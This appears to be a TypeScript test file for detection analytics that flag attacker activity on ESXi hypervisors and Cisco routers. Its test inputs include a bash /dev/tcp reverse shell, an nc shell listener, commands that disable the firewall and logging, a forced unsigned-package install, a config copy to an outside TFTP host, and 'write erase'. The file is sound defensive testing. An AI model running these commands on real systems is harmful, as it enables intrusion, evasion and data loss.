import type { EventAnalytic } from '../../../attribution/findings/contract';
import { CommandWords } from '../../../attribution/findings/command-words';
import { ANALYTICS } from '../../../attribution/findings/registry';
import type { ChangeRecord } from '../../../store/analysis/finding-record';
import { change, hex, values } from './evidence';

const events = ANALYTICS.filter((each): each is EventAnalytic => each.looksAt === 'event');

/** Ids and kinds of what matches an event. */
function found(event: ChangeRecord): string[] {
  return events.flatMap((analytic) => {
    const match = analytic.match(event, values());
    return match === undefined ? [] : [`${analytic.id} ${match.key}`];
  });
}

const router = (command: string): ChangeRecord => change({ device: 'r1', parser: 'cisco_ios', command });

test.each([
  ['esxcli network firewall set --enabled false', 'AN0409 firewall_off'],
  ['esxcli network firewall set -e false', 'AN0409 firewall_off'],
  ['esxcli network firewall ruleset set -r sshClient -e true', 'AN0409 ruleset'],
  ["esxcli system syslog config set --loghost=''", 'AN0670 log_config'],
  ['/etc/init.d/vmsyslogd stop', 'AN0670 log_stop'],
  ['export HISTFILE=0', 'AN1558 history'],
  ['esxcli software vib install -v /tmp/x.vib --force --no-sig-check', 'AN1475 unsigned'],
  ['esxcli software vib install -d /vmfs/volumes/ds/patch.zip', 'AN1475 install'],
  ['nc -l -p 4444 -e /bin/sh', 'AN1232 relay'],
  ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'AN1232 reverse_shell'],
  ['ssh -R 2222:localhost:22 a@203.0.113.9', 'AN1232 ssh_tunnel'],
  ['vim-cmd vmsvc/getallvms', 'AN0572 enumeration'],
  ['esxcli vm process kill --type=force --world-id=123', 'AN1537 stop_vm'],
])('on a hypervisor: %s', (command, expected) => expect(found(change({ command }))).toContain(expected));

test.each([
  ['no logging host 192.0.2.5', 'AN1559 logging_off'],
  ['access-list 101 permit ip any any', 'AN0410 permit_any'],
  ['copy running-config tftp://203.0.113.9/x', 'AN0647 copy_out'],
  ['ip nat inside source static tcp 10.0.0.5 22 203.0.113.1 2222', 'AN1233 port_forward'],
  ['monitor session 1 destination ip 203.0.113.9', 'AN1132 mirror'],
  ['reload in 5', 'AN0399 restart'],
  ['write erase', 'AN0399 erase'],
])('on a router: %s', (command, expected) => expect(found(router(command))).toContain(expected));

test.each([
  ['esxcli network ip connection list', change({ command: 'esxcli network ip connection list' })],
  ['show running-config', router('show running-config')],
  ['a name that holds a phrase', router('description backup of no loggings')],
  ['commands of routers on a hypervisor', change({ command: 'no logging host 192.0.2.5' })],
  ["ascribe's own visit", change({ command: 'vim-cmd vmsvc/getallvms', own: true })],
])('nothing: %s', (_, event) => expect(found(event)).toEqual([]));

describe('logins to a hypervisor', () => {
  const login = (more: Partial<ChangeRecord>): ChangeRecord =>
    change({ category: 'authentication', action: 'login', outcome: 'success', ...more });

  test('from outside AllowedMgmtHosts', () => {
    expect(found(login({ src: hex('192.0.2.50') }))).toEqual(['AN1640 root@192.0.2.50']);
  });

  test.each([
    ['from an allowed host', login({ src: hex('10.9.0.4') })],
    ['on the host itself', login({ src: hex('127.0.0.1') })],
    ['that failed', login({ src: hex('192.0.2.50'), outcome: 'failure' })],
  ])('%s: nothing', (_, event) => expect(found(event)).toEqual([]));
});

test('an acceptance level that was lowered is told by its code', () => {
  expect(found(change({ action: 'observation', code: 'esx.audit.esximage.hostacceptance.changed' }))).toEqual([
    'AN1475 unsigned',
  ]);
});

test.each([
  ['root', 'low'],
  ['mallory', 'medium'],
])('a command of %s, where root is an allowed user, is %s', (user, severity) => {
  const analytic = events.find(({ id }) => id === 'AN1537');
  const allowed = { ...values(), AllowedUsers: new Set(['root']) };
  expect(analytic?.match(change({ command: 'reboot', user }), allowed)?.severity).toBe(severity);
});

describe('command words', () => {
  test('a long command is looked at only so far', () => {
    expect(new CommandWords(`${'x '.repeat(5000)}no logging`).holds('no logging')).toBe(false);
  });

  test('words, not parts of words', () => {
    expect(new CommandWords('technology logging').holds('no logging')).toBe(false);
    expect(new CommandWords('NO   Logging').holds('no logging')).toBe(true);
  });
});

test('each analytic is told once, by an id of its own, and says what it needs', () => {
  const ids = ANALYTICS.map(({ id }) => id);
  expect(new Set(ids).size).toBe(ids.length);
  for (const { id, text, needs, techniques, strategy } of ANALYTICS) {
    expect([id, text.length > 40, needs.length > 0, techniques.length > 0, /^DET\d{4}$/.test(strategy)]).toEqual([
      id,
      true,
      true,
      true,
      true,
    ]);
  }
});
